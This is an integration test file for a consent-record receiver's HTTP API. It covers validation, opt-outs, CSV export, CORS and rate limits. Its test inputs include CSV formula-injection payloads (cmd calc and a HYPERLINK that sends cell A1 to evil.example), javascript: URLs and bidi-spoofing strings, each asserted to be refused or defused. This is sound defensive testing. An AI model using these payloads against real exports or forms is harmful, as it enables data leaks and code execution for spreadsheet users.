// The receiver's HTTP API as an integrator meets it: a real Node server on loopback, real
// fetch, a real database behind it (every store in stores.ts).
import assert from 'node:assert/strict';
import { connect, type AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { ConsentRecord } from '../../../src/core/record.js';
import { serveReceiver } from '../../../src/server/http/node.js';
import { createConsentReceiver, type ReceiverOptions } from '../../../src/server/http/receiver.js';
import type { SqlConsentStore } from '../../../src/server/store/store.js';
import { consentRecord, receipt, uniquePhone } from './records.js';
import { storesUnderTest } from './stores.js';

const ADMIN = 'admin-token-for-tests-0123456789';
const IVR_KEY = 'ivr-key-for-tests-0123456789';
const admin = { authorization: `Bearer ${ADMIN}` };

interface Api {
  url: string;
  post(path: string, body: unknown, headers?: Record<string, string>): Promise<Response>;
  get(path: string, headers?: Record<string, string>): Promise<Response>;
}

for (const kind of storesUnderTest) {
  describe(`receiver over HTTP: ${kind.name}`, { skip: kind.skip }, () => {
    let place: Awaited<ReturnType<typeof kind.create>>;
    let store: SqlConsentStore;
    const servers: { close(): void; closeAllConnections(): void }[] = [];

    /** A receiver with these options on a free loopback port. */
    async function receiver(options: Partial<ReceiverOptions> = {}): Promise<Api> {
      const server = await serveReceiver(
        createConsentReceiver({ store, adminToken: ADMIN, apiKeys: { ivr: IVR_KEY }, rateLimit: false, ...options }),
        { port: 0, trustProxy: true },
      );
      servers.push(server);
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      return {
        url,
        post: (path, body, headers = {}) =>
          fetch(url + path, {
            method: 'POST',
            headers: { 'content-type': 'application/json', ...headers },
            body: typeof body === 'string' ? body : JSON.stringify(body),
          }),
        get: (path, headers = {}) => fetch(url + path, { headers }),
      };
    }

    const rowsFor = async (phone: string) => (await store.eventsForPhone(phone)).length;

    /** Every refusal is JSON with a short code and a sentence; returns the sentence. */
    async function refusal(response: Response, status: number, code: string): Promise<string> {
      assert.equal(response.status, status);
      assert.match(response.headers.get('content-type')!, /^application\/json/);
      const body = (await response.json()) as { error: string; message: string };
      assert.equal(body.error, code);
      assert.ok(body.message.length > 10, 'a readable message');
      return body.message;
    }

    let api: Api;
    before(async () => {
      place = await kind.create();
      store = await place.open();
      api = await receiver();
    });
    after(async () => {
      for (const server of servers) {
        server.closeAllConnections();
        server.close();
      }
      await store.close();
      await place.destroy();
    });

    describe('POST /consent', () => {
      test('stores a record: 201, a retry 200 with one row, the same id with other content 409', async () => {
        const record = consentRecord();
        const first = await api.post('/consent', record, { 'idempotency-key': record.id });
        assert.equal(first.status, 201);
        assert.deepEqual(await first.json(), { id: record.id, kind: 'opt-in', stored: true });
        const retry = await api.post('/consent', record, { 'idempotency-key': record.id });
        assert.equal(retry.status, 200);
        assert.equal(((await retry.json()) as { stored: boolean }).stored, false);
        const message = await refusal(await api.post('/consent', { ...record, topics: ['offers'] }), 409, 'id-conflict');
        assert.match(message, new RegExp(record.id));
        assert.equal(await rowsFor(record.phone), 1);
      });

      for (const [name, change, expected] of [
        ['a number that no operator has', { phone: '+5511012345678' }, /phone \+5511012345678 is not a valid phone number/],
        ['a number not in E.164', { phone: '5511912345678' }, /phone must match pattern/],
        ['wording without the word WhatsApp', (r: ConsentRecord) => ({ wording: r.wording.replace('WhatsApp', 'chat') }), /wording must contain the word "WhatsApp"/],
        ['wording without the business', (r: ConsentRecord) => ({ wording: r.wording.replace('Acme Shoes', 'us') }), /wording must name the business "Acme Shoes"/],
        ['wording without the number', (r: ConsentRecord) => ({ wording: r.wording.replace(/\+55[\d ]+/, 'the number above') }), /wording must show the number \+55 11/],
        ['a boolean sent as a string', { phoneVerified: 'yes' }, /phoneVerified must be boolean/],
        ['topics sent as a string', { topics: 'order_updates' }, /topics must be array/],
        ['a missing field', { consentedAt: undefined }, /is missing "consentedAt"/],
        ['an unknown field', { note: 'x' }, /unknown field "note"/],
        ['a topic this receiver does not send', { topics: ['crypto_tips'] }, /topics crypto_tips unknown here/],
        ['a time no database can store', { consentedAt: '0000-01-01T00:00:00Z' }, /consentedAt must be a time after 1970/],
        ['a NUL character in the text', (r: ConsentRecord) => ({ wording: `${r.wording}\u0000` }), /may not contain the NUL character/],
      ] as const) {
        test(`refuses ${name} with 422, a clear message, and stores nothing`, async () => {
          const base = consentRecord();
          const record = { ...base, ...(typeof change === 'function' ? change(base) : change) };
          const message = await refusal(await api.post('/consent', record), 422, 'invalid-record');
          assert.match(message, expected);
          assert.equal(await rowsFor(base.phone), 0);
        });
      }

      test('accepts unknown topics when configured to', async () => {
        const open = await receiver({ allowUnknownTopics: true });
        assert.equal((await open.post('/consent', consentRecord({ topics: ['loyalty_points'] }))).status, 201);
      });

      test('accepts a number written nationally in the wording, e.g. with a custom template', async () => {
        const record = consentRecord();
        const national = `(11) ${record.phone.slice(5, 10)}-${record.phone.slice(10)}`;
        const wording = `Send order updates from Acme Shoes to ${national} on WhatsApp.`;
        assert.equal((await api.post('/consent', { ...record, wording, wordingVersion: 'custom' })).status, 201);
      });

      test('refuses a body that is not JSON (400), not declared JSON (415), or too big (413)', async () => {
        assert.match(await refusal(await api.post('/consent', '{"id": '), 400, 'malformed-json'), /not valid JSON/);
        const record = consentRecord();
        const asText = await fetch(`${api.url}/consent`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(record) });
        assert.match(await refusal(asText, 415, 'unsupported-media-type'), /application\/json/);
        const huge = { ...record, wording: `${record.wording} ${'x'.repeat(20_000)}` };
        assert.match(await refusal(await api.post('/consent', huge), 413, 'body-too-large'), /16384 bytes/);
        // Without Content-Length (streamed): the limit still holds.
        const chunks = new ReadableStream({
          start(controller) {
            for (let i = 0; i < 20; i++) controller.enqueue(new TextEncoder().encode('x'.repeat(1024)));
            controller.close();
          },
        });
        const streamed = await fetch(`${api.url}/consent`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: chunks,
          duplex: 'half',
        } as RequestInit);
        await refusal(streamed, 413, 'body-too-large');
        assert.equal(await rowsFor(record.phone), 0);
      });

      test('refuses an Idempotency-Key that is not the record id', async () => {
        const record = consentRecord();
        await refusal(await api.post('/consent', record, { 'idempotency-key': crypto.randomUUID() }), 400, 'idempotency-key-mismatch');
      });

      test('takes records from off the web (IVR, SMS, ATM) only with an API key, and says which system sent them', async () => {
        const record = consentRecord({ source: 'ivr', pageUrl: null });
        await refusal(await api.post('/consent', record), 401, 'api-key-required');
        await refusal(await api.post('/consent', record, { authorization: 'Bearer not-a-key' }), 401, 'unauthorized');
        assert.equal((await api.post('/consent', record, { authorization: `Bearer ${IVR_KEY}` })).status, 201);
        const [event] = await store.eventsForPhone(record.phone);
        assert.equal(event.via, 'api-key:ivr');
        assert.equal(event.source, 'ivr');
      });

      test('stores origin and user agent, and the client IP only as configured', async () => {
        const headers = { origin: api.url, 'user-agent': 'Shop/1.0', 'x-forwarded-for': '203.0.113.7' };
        const plainRecord = consentRecord();
        await api.post('/consent', plainRecord, headers);
        const [byDefault] = await store.eventsForPhone(plainRecord.phone);
        assert.equal(byDefault.clientIp, null);
        assert.equal(byDefault.origin, api.url);
        assert.equal(byDefault.userAgent, 'Shop/1.0');

        const hashing = await receiver({ clientIp: { hashSalt: 'salt-for-tests-0123' } });
        const hashedRecord = consentRecord();
        await hashing.post('/consent', hashedRecord, { ...headers, origin: hashing.url });
        const [hashed] = await store.eventsForPhone(hashedRecord.phone);
        assert.match(hashed.clientIp!, /^sha256:[0-9a-f]{64}$/);

        const plain = await receiver({ clientIp: 'plain' });
        const ipRecord = consentRecord();
        await plain.post('/consent', ipRecord, { ...headers, origin: plain.url });
        assert.equal((await store.eventsForPhone(ipRecord.phone))[0].clientIp, '203.0.113.7');
      });
    });

    describe('what a caller without a key may claim (item 6)', () => {
      const ivr = { authorization: `Bearer ${IVR_KEY}` };
      const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString();

      test('the anonymous "IVR from a browser" of the issue is refused; the same record with a key is stored, marked as the key\'s', async () => {
        const forged = consentRecord({ source: 'ivr', pageUrl: 'ivr', phoneVerified: true, consentedAt: '2019-03-01T10:00:00.000Z' });
        const message = await refusal(await api.post('/consent', forged), 422, 'invalid-record');
        assert.match(message, /consentedAt 2019-03-01T10:00:00.000Z is older than 30 days/);
        assert.match(message, /pageUrl "ivr" is not an http\(s\) URL, so the record comes from off the web \(source "ivr"\) and needs an API key/);
        const recent = { ...forged, consentedAt: new Date().toISOString() };
        const offWeb = await refusal(await api.post('/consent', recent), 401, 'api-key-required');
        assert.match(offWeb, /pageUrl "ivr" is not an http\(s\) URL/);
        assert.equal(await rowsFor(forged.phone), 0);
        assert.equal((await api.post('/consent', forged, ivr)).status, 201, 'an IVR backfilling its 2019 log with its key');
        const [event] = await store.eventsForPhone(forged.phone);
        assert.equal(event.via, 'api-key:ivr');
      });

      for (const [name, pageUrl] of [
        ['javascript:', 'javascript:alert(1)'],
        ['a bare word', 'checkout'],
        ['ftp:', 'ftp://files.example/optin'],
        ['data:', 'data:text/html,<b>hi</b>'],
        ['https without slashes (found by the property test)', 'https:${process.exit()}//shop.example/whatsapp'],
        ['a URL behind a control character', '\u0001https://shop.example/whatsapp'],
      ] as const) {
        test(`a pageUrl that is ${name} needs a key (401); with one it is stored`, async () => {
          const record = consentRecord({ pageUrl });
          await refusal(await api.post('/consent', record), 401, 'api-key-required');
          assert.equal(await rowsFor(record.phone), 0);
          assert.equal((await api.post('/consent', record, ivr)).status, 201);
        });
      }

      test('a blank business is refused for everyone', async () => {
        for (const headers of [{}, ivr]) {
          const record = consentRecord({ business: '   ' });
          assert.match(await refusal(await api.post('/consent', record, headers), 422, 'invalid-record'), /business must name the business; it is blank/);
          assert.equal(await rowsFor(record.phone), 0);
        }
      });

      test('consentedAt: 4 minutes ahead passes (clock skew), 10 minutes ahead is refused for everyone', async () => {
        const ahead = (minutes: number) => new Date(Date.now() + minutes * 60_000).toISOString();
        assert.equal((await api.post('/consent', consentRecord({ consentedAt: ahead(4) }))).status, 201);
        for (const headers of [{}, ivr]) {
          const record = consentRecord({ consentedAt: ahead(10) });
          assert.match(await refusal(await api.post('/consent', record, headers), 422, 'invalid-record'), /lies in the future/);
        }
      });

      test('consentedAt: 29 days old passes, 31 days old needs a key; maxRecordAgeDays moves the line', async () => {
        assert.equal((await api.post('/consent', consentRecord({ consentedAt: daysAgo(29) }))).status, 201);
        const old = consentRecord({ consentedAt: daysAgo(31) });
        assert.match(await refusal(await api.post('/consent', old), 422, 'invalid-record'), /older than 30 days; older records can only be sent with an API key/);
        assert.equal((await api.post('/consent', old, ivr)).status, 201);
        const strict = await receiver({ maxRecordAgeDays: 7 });
        await refusal(await strict.post('/consent', consentRecord({ consentedAt: daysAgo(8) })), 422, 'invalid-record');
      });

      test('integrator-chosen sources stay free-form for pages', async () => {
        assert.equal((await api.post('/consent', consentRecord({ source: 'loyalty-app:v2.signup' }))).status, 201);
      });
    });

    describe('text that reads as it was shown (item 7)', () => {
      for (const [field, change] of [
        ['business', (r: ConsentRecord) => ({ business: 'Acme\u202EseohS', wording: r.wording.replace('Acme Shoes', 'Acme\u202EseohS') })],
        ['wording', (r: ConsentRecord) => ({ wording: r.wording.replace('WhatsApp', '\u202EppAstahW\u202C WhatsApp') })],
        ['wording', (r: ConsentRecord) => ({ wording: `\u2067${r.wording}\u2069` })],
        ['pageUrl', () => ({ pageUrl: 'https://shop.example/\u202Egpj.exe' })],
        ['wordingVersion', () => ({ wordingVersion: 'en/1\u2066' })],
      ] as const) {
        test(`a bidi control in ${field} is refused with a 422 naming the field`, async () => {
          const base = consentRecord();
          const record = { ...base, ...change(base) };
          const message = await refusal(await api.post('/consent', record), 422, 'invalid-record');
          assert.match(message, new RegExp(`${field} may not contain bidirectional override or isolate characters`));
          assert.equal(await rowsFor(base.phone), 0);
        });
      }

      test('a lone surrogate anywhere is refused, naming the field; the raw body never disagrees with the columns', async () => {
        for (const [field, value] of [['business', 'Acme \uD800Shoes'], ['widgetVersion', '1\uDFFF'], ['wording', null]] as const) {
          const base = consentRecord();
          const record = { ...base, [field]: value ?? `${base.wording} \uDBFF` };
          // JSON.stringify writes lone surrogates as \\uD800 escapes: exactly what a hostile client sends.
          const message = await refusal(await api.post('/consent', JSON.stringify(record)), 422, 'invalid-record');
          assert.match(message, new RegExp(`${field} is not well-formed text \\(it holds a lone UTF-16 surrogate\\)`));
          assert.equal(await rowsFor(base.phone), 0);
        }
        const optOut = await refusal(await api.post('/opt-out', JSON.stringify({ phone: '+5511912345678', source: 'call', reason: 'stop \uD83D' })), 422, 'invalid-opt-out');
        assert.match(optOut, /reason is not well-formed text/);
      });

      test('LRM and RLM stay allowed (Hebrew and Arabic wording needs them), and so do emoji (surrogate pairs)', async () => {
        const record = consentRecord({ business: 'שוקו 🍫' });
        const wording = `\u200Fקבלו order updates מ-${record.business} ב-WhatsApp, \u200E${record.wording.match(/\+55[\d ]+\d/)![0]}\u200E.`;
        const response = await api.post('/consent', { ...record, wording, wordingVersion: 'custom', locale: 'he' });
        assert.equal(response.status, 201, await response.clone().text());
        const [event] = await store.eventsForPhone(record.phone);
        assert.equal(event.wording, wording);
        assert.deepEqual((event.body as ConsentRecord).wording, wording);
      });
    });

    describe('POST /opt-out and GET /status', () => {
      test('the latest event wins: opt in, opt out of one topic, STOP everything, opt in again', async () => {
        const { e164: phone, international } = uniquePhone();
        const status = async (topic?: string) => {
          // An unencoded + arrives as a space; the receiver still reads +55….
          const response = await api.get(`/status?phone=${phone}${topic ? `&topic=${topic}` : ''}`, admin);
          assert.equal(response.status, 200);
          return (await response.json()) as { allowed?: boolean; topics: Record<string, { allowed: boolean }>; events: number };
        };
        assert.equal((await status('order_updates')).allowed, false, 'never opted in');
        assert.equal((await api.post('/consent', consentRecord({ phone, topics: ['order_updates', 'offers'] }))).status, 201);
        assert.equal((await status('offers')).allowed, true);

        const preferencePage = await api.post('/opt-out', { phone: international, topics: ['offers'], source: 'preference-page' });
        assert.equal(preferencePage.status, 201);
        let now = await status();
        assert.equal(now.topics.offers.allowed, false);
        assert.equal(now.topics.order_updates.allowed, true);

        const stopId = crypto.randomUUID();
        const stop = { id: stopId, phone, source: 'whatsapp-stop', reason: 'STOP', at: new Date().toISOString() };
        assert.equal((await api.post('/opt-out', stop)).status, 201);
        assert.equal((await api.post('/opt-out', stop)).status, 200, 'a forwarded webhook retried is stored once');
        assert.equal((await status('order_updates')).allowed, false);
        assert.equal((await status('a_topic_never_named')).allowed, false);

        assert.equal((await api.post('/consent', consentRecord({ phone, topics: ['order_updates'] }))).status, 201);
        now = await status();
        assert.equal(now.topics.order_updates.allowed, true);
        assert.equal(now.topics.offers.allowed, false);
        assert.equal(now.events, 4, 'history is kept, never rewritten');
      });

      test('an opt-out needs only a number and a source; a bad number gets a clear 422', async () => {
        const message = await refusal(await api.post('/opt-out', { phone: 'call me', source: 'call' }), 422, 'invalid-opt-out');
        assert.match(message, /phone call me is not a phone number/);
        await refusal(await api.post('/opt-out', { phone: '+5511912345678' }), 422, 'invalid-opt-out');
        const impossibleTime = await refusal(await api.post('/opt-out', { phone: '+5511912345678', source: 'x', at: '0000-01-01T00:00:00Z' }), 422, 'invalid-opt-out');
        assert.match(impossibleTime, /at must be a time after 1970/);
      });

      test('status needs the admin token, compared exactly', async () => {
        const phone = uniquePhone().e164;
        const without = await api.get(`/status?phone=${encodeURIComponent(phone)}`);
        await refusal(without, 401, 'unauthorized');
        assert.equal(without.headers.get('www-authenticate'), 'Bearer');
        await refusal(await api.get(`/status?phone=${encodeURIComponent(phone)}`, { authorization: `Bearer ${ADMIN}x` }), 401, 'unauthorized');
        await refusal(await api.get(`/status?phone=${encodeURIComponent(phone)}`, { authorization: `Bearer ${IVR_KEY}` }), 401, 'unauthorized');
        await refusal(await api.get('/status?phone=12', admin), 400, 'invalid-query');
        const noAdmin = await receiver({ adminToken: undefined });
        await refusal(await noAdmin.get(`/status?phone=${encodeURIComponent(phone)}`, admin), 401, 'unauthorized');
        const disabled = await receiver({ adminToken: undefined, apiKeys: {} });
        await refusal(await disabled.get(`/status?phone=${encodeURIComponent(phone)}`), 403, 'admin-disabled');
      });
    });

    describe('GET /export', () => {
      test('CSV: one row per event with the exact wording, the source, page and times; filtered by received time', async () => {
        const from = new Date();
        const record = consentRecord({ topics: ['order_updates', 'shipping_updates'] });
        await api.post('/consent', record, { 'user-agent': 'Shop/2.0' });
        await api.post('/opt-out', { phone: record.phone, source: 'whatsapp-stop', reason: 'STOP, "please"' });
        const response = await api.get(`/export?from=${from.toISOString()}&format=csv`, admin);
        assert.equal(response.status, 200);
        assert.match(response.headers.get('content-type')!, /^text\/csv/);
        assert.match(response.headers.get('content-disposition')!, /attachment; filename="wa-optin-consents.csv"/);
        const lines = (await response.text()).trimEnd().split('\r\n');
        assert.equal(
          lines[0],
          'eventId,kind,phone,topics,occurredAt,receivedAt,source,business,wording,wordingVersion,locale,pageUrl,phoneVerified,widgetVersion,reason,via,origin,userAgent,clientIp,userId',
        );
        const mine = lines.filter((l) => l.includes(record.phone));
        assert.equal(mine.length, 2);
        assert.ok(
          mine[0].startsWith(
            `${record.id},opt-in,${record.phone},order_updates shipping_updates,${record.consentedAt},`,
          ),
          mine[0],
        );
        assert.ok(mine[0].includes(`,form,Acme Shoes,"${record.wording}",en/2,en,https://shop.example/whatsapp,false,0.1.0,,browser,,Shop/2.0,`), mine[0]);
        assert.match(mine[1], /,opt-out,\+55\d+,\*,.*,whatsapp-stop,,,,,,,,"STOP, ""please""",browser,/);

        const earlier = await api.get(`/export?to=${encodeURIComponent(from.toISOString())}`, admin);
        assert.ok(!(await earlier.text()).includes(record.phone), 'to is exclusive');
      });

      test('JSONL: one JSON object per line; a cell that a spreadsheet would run as a formula is defused in CSV', async () => {
        const from = new Date().toISOString();
        const base = consentRecord();
        const record = { ...base, wording: `=HYPERLINK("http://x") ${base.wording}` };
        assert.equal((await api.post('/consent', record)).status, 201);
        const jsonl = await (await api.get(`/export?format=jsonl&from=${from}`, admin)).text();
        const events = jsonl.trimEnd().split('\n').map((line) => JSON.parse(line) as { eventId: string; wording: string; topics: string[] });
        const mine = events.find((e) => e.eventId === record.id)!;
        assert.equal(mine.wording, record.wording);
        assert.deepEqual(mine.topics, ['order_updates']);
        const csv = await (await api.get(`/export?from=${from}`, admin)).text();
        assert.ok(csv.includes(`"'=HYPERLINK(""http://x"") `), 'formula defused');
        assert.ok(csv.includes(`,${record.phone},`), 'the number keeps its plus');
      });

      test('an export the database fails in the middle of ends in an error, never in a clean but truncated file', { timeout: 60_000 }, async (t) => {
        const place = await kind.create();
        if (!place.cutConnections) {
          await place.destroy();
          return t.skip('PGlite runs inside the receiver: there is no connection to cut');
        }
        const exportStore = await place.open();
        const quiet = console.error;
        try {
          // ~18 MB: far more than the sockets buffer, so the download is still running when the database goes.
          const padding = ' '.repeat(1800);
          for (let group = 0; group < 8; group++) {
            await Promise.all(
              Array.from({ length: 1000 }, () => {
                const record = consentRecord();
                return exportStore.save({ kind: 'opt-in', record: { ...record, wording: record.wording + padding } }, receipt());
              }),
            );
          }
          const exporter = await receiver({ store: exportStore });
          const response = await exporter.get('/export', admin);
          assert.equal(response.status, 200);
          const reader = response.body!.getReader();
          assert.equal((await reader.read()).done, false);
          console.error = () => {};
          await place.cutConnections();
          await assert.rejects(async () => {
            for (;;) if ((await reader.read()).done) break;
          });
        } finally {
          console.error = quiet;
          await exportStore.close().catch(() => {});
          await place.destroy();
        }
      });

      test('CSV formula injection (item 2): the issue\'s wording, User-Agent and opt-out reason are defused; only an E.164 phone keeps its plus', async () => {
        const from = new Date().toISOString();
        const base = consentRecord();
        const wording = `-2+3+cmd|' /C calc'!A0 ${base.wording}`;
        const userAgent = '+1+HYPERLINK("http://evil.example/?leak="&A1,"Click")';
        const record = { ...base, wording };
        assert.equal((await api.post('/consent', record, { 'user-agent': userAgent })).status, 201);
        assert.equal((await api.post('/opt-out', { phone: record.phone, source: 'preference-page', reason: '=1+1' }, { 'user-agent': '@SUM(1+1)' })).status, 201);
        const csv = await (await api.get(`/export?from=${encodeURIComponent(from)}`, admin)).text();
        const [optIn, optOut] = csv.split('\r\n').filter((line) => line.includes(record.phone));
        assert.ok(optIn.includes(`,"'-2+3+cmd|' /C calc'!A0 `), optIn);
        assert.ok(optIn.includes(`,"'+1+HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`), optIn);
        assert.ok(optIn.startsWith(`${record.id},opt-in,${record.phone},`), 'the phone cell keeps its plus');
        assert.ok(optOut.includes(`,'=1+1,browser,,'@SUM(1+1),`), optOut);
        // No cell of the two rows starts with a formula character unless it is the phone.
        for (const line of [optIn, optOut]) {
          const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
          const risky = cells.filter((cell, i) => i !== 2 && /^[=+\-@\t\r\n]/.test(cell));
          assert.deepEqual(risky, [], line);
        }
      });

      test('csv-excel: a UTF-8 BOM, the phone as text, the same defused cells', async () => {
        const from = new Date().toISOString();
        const base = consentRecord({ business: 'Café Ñandú' });
        const record = { ...base, wording: `=cmd|' /C calc'!A0 ${base.wording}` };
        assert.equal((await api.post('/consent', record)).status, 201);
        const response = await api.get(`/export?format=csv-excel&from=${encodeURIComponent(from)}`, admin);
        assert.equal(response.status, 200);
        assert.match(response.headers.get('content-type')!, /^text\/csv; charset=utf-8/);
        assert.match(response.headers.get('content-disposition')!, /filename="wa-optin-consents-excel\.csv"/);
        const bytes = new Uint8Array(await response.arrayBuffer());
        assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
        const text = new TextDecoder().decode(bytes);
        const line = text.split('\r\n').find((l) => l.includes(record.id))!;
        assert.ok(line.startsWith(`${record.id},opt-in,"=""${record.phone}""",`), line);
        assert.ok(line.includes(`,Café Ñandú,"'=cmd|' /C calc'!A0 `), line);
        const plain = await (await api.get(`/export?format=csv&from=${encodeURIComponent(from)}`, admin)).arrayBuffer();
        assert.notEqual(new Uint8Array(plain)[0], 0xef, 'plain CSV has no BOM');
      });

      test('needs the admin token, and says what is wrong with a query', async () => {
        await refusal(await api.get('/export'), 401, 'unauthorized');
        assert.match(await refusal(await api.get('/export?format=xlsx', admin), 400, 'invalid-query'), /csv, csv-excel or jsonl/);
        assert.match(await refusal(await api.get('/export?from=yesterday', admin), 400, 'invalid-query'), /ISO 8601/);
      });
    });

    describe('CORS, rate limit, routes', () => {
      test('answers preflights for allowed origins and refuses pages elsewhere, storing nothing', async () => {
        const shop = await receiver({ allowedOrigins: ['https://shop.example'] });
        const preflight = await fetch(`${shop.url}/consent`, {
          method: 'OPTIONS',
          headers: { origin: 'https://shop.example', 'access-control-request-method': 'POST' },
        });
        assert.equal(preflight.status, 204);
        assert.equal(preflight.headers.get('access-control-allow-origin'), 'https://shop.example');
        assert.equal(preflight.headers.get('access-control-allow-methods'), 'POST, OPTIONS');
        assert.match(preflight.headers.get('access-control-allow-headers')!, /Content-Type, Idempotency-Key/);

        const allowed = await shop.post('/consent', consentRecord(), { origin: 'https://shop.example' });
        assert.equal(allowed.status, 201);
        assert.equal(allowed.headers.get('access-control-allow-origin'), 'https://shop.example');

        const record = consentRecord();
        const message = await refusal(await shop.post('/consent', record, { origin: 'https://evil.example' }), 403, 'origin-not-allowed');
        assert.match(message, /https:\/\/evil\.example/);
        assert.equal(await rowsFor(record.phone), 0);
        const evilPreflight = await fetch(`${shop.url}/consent`, { method: 'OPTIONS', headers: { origin: 'https://evil.example' } });
        assert.equal(evilPreflight.status, 403);
        assert.equal(evilPreflight.headers.get('access-control-allow-origin'), null);
      });

      test('limits each IP: the 4th request in a burst of 3 gets 429 with Retry-After; other IPs and API keys pass', async () => {
        const limited = await receiver({ rateLimit: { requests: 3, perSeconds: 60 } });
        const from = (ip: string) => ({ 'x-forwarded-for': ip });
        for (let i = 0; i < 3; i++) assert.equal((await limited.post('/consent', consentRecord(), from('198.51.100.1'))).status, 201);
        const record = consentRecord();
        const refused = await limited.post('/consent', record, from('198.51.100.1'));
        assert.match(await refusal(refused, 429, 'rate-limited'), /try again in 20 s/);
        assert.equal(refused.headers.get('retry-after'), '20');
        assert.equal(await rowsFor(record.phone), 0);
        assert.equal((await limited.post('/consent', record, from('198.51.100.2'))).status, 201);
        const offWeb = consentRecord({ source: 'atm', pageUrl: null });
        assert.equal((await limited.post('/consent', offWeb, { ...from('198.51.100.1'), authorization: `Bearer ${IVR_KEY}` })).status, 201);
        // Guessing tokens counts against the limit too.
        await refusal(await limited.get('/export', { ...from('198.51.100.1'), authorization: 'Bearer guess' }), 429, 'rate-limited');
      });

      test('a Host header no URL can be made of gets a 400, and the receiver keeps serving', async () => {
        const { port } = new URL(api.url);
        const raw = await new Promise<string>((resolve, reject) => {
          let answer = '';
          const socket = connect(Number(port), '127.0.0.1', () =>
            socket.end('POST /consent HTTP/1.1\r\nHost: a b\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}'),
          );
          socket.on('data', (chunk) => (answer += chunk.toString()));
          socket.on('end', () => resolve(answer));
          socket.on('error', reject);
        });
        assert.match(raw, /^HTTP\/1\.1 400 /);
        assert.match(raw, /"error":"bad-request"/);
        assert.equal((await api.post('/consent', consentRecord())).status, 201);
      });

      test('unknown paths are 404 and wrong methods 405, as JSON', async () => {
        await refusal(await api.get('/consents'), 404, 'not-found');
        const wrongMethod = await api.get('/consent');
        await refusal(wrongMethod, 405, 'method-not-allowed');
        assert.equal(wrongMethod.headers.get('allow'), 'POST, OPTIONS');
      });
    });
  });
}
